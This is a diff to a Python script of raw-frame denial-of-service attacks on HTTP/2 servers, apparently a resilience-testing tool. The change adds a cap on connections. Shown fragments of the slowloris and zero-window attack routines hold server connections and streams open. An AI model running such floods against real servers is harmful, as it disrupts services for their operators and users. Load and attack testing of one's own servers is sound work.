@@ -1,10 +1,11 @@
 """Attacks on an HTTP/2 server as raw frames over a socket, without a library.
 
   attacks.py NAME HOST:PORT [--tls] [--source ADDRESS] [--seconds N] [--count N]
+             [--connections N]
 
-Runs one of ATTACKS until it has done `count` of what it does or its time is
-up, over as many connections as that takes, and prints what it did as JSON:
-"done", "connections", and "refused", the connections that the server closed.
+Runs one of ATTACKS until it has done `count` of what it does, its time is up or
+so many connections were made, and prints what it did as JSON: "done",
+"connections", and "refused", the connections that the server closed.
 """
 
 import argparse
@@ -95,7 +96,7 @@ class Connection:
             self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
 
     def send(self, data):
-        """Sends all of it. Raises Closed, and TimeoutError past the deadline."""
+        """Sends all of it. Raises Closed; TimeoutError past the deadline."""
         view = memoryview(data)
         while view:
             self.read()
@@ -152,13 +153,14 @@ class Connection:
 class Target:
     """Whom to attack, from where, how long, and what came of it."""
 
-    def __init__(self, address, source, tls, seconds, count):
+    def __init__(self, address, source, tls, seconds, count, max_connections):
         host, port = address.rsplit(":", 1)
         self.address = (socket.gethostbyname(host), int(port))
         self.source = source
         self.tls = tls
         self.deadline = time.monotonic() + seconds
         self.count = count
+        self.max_connections = max_connections
         self.done = 0
         self.connections = 0
         self.refused = 0
@@ -168,7 +170,7 @@ class Target:
 
     def attack(self, act, **connect):
         """`act` on connections one after another, until it is enough."""
-        while self.going():
+        while self.going() and self.connections < self.max_connections:
             connection = None
             self.connections += 1
             try:
@@ -259,7 +261,7 @@ def slowloris(target):
     rests = [PREFACE, PREFACE[5:], frame(HEADERS, END_HEADERS, 1, QUANTIZE),
              frame(DATA, 0, 1, bytes(1000))]
     connections = []
-    for i in range(target.count):
+    for i in range(min(target.count, target.max_connections)):
         if time.monotonic() > target.deadline:
             break
         try:
@@ -290,10 +292,10 @@ def zero_window(target):
     """Calls whose answers may never be sent, held open."""
     settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
     connections = []
-    while target.going():
+    while target.going() and target.connections < target.max_connections:
+        target.connections += 1
         try:
             connection = Connection(target, target.deadline, settings=settings)
-            target.connections += 1
             for n in range(STREAMS_PER_CONNECTION):
                 stream = 2 * n + 1
                 connection.send(
@@ -336,6 +338,7 @@ def main():
     arguments.add_argument("--source", default="127.0.0.2")
     arguments.add_argument("--seconds", type=float, default=10)
     arguments.add_argument("--count", type=int)
+    arguments.add_argument("--connections", type=int, default=sys.maxsize)
     options = arguments.parse_args()
     tls = None
     if options.tls:
@@ -345,7 +348,8 @@ def main():
         tls.set_alpn_protocols(["h2"])
     attack, count = ATTACKS[options.name]
     target = Target(options.address, options.source, tls, options.seconds,
-                    options.count or count or sys.maxsize)
+                    options.count or count or sys.maxsize,
+                    options.connections)
     begin = time.monotonic()
     attack(target)
     json.dump({"done": target.done, "connections": target.connections,
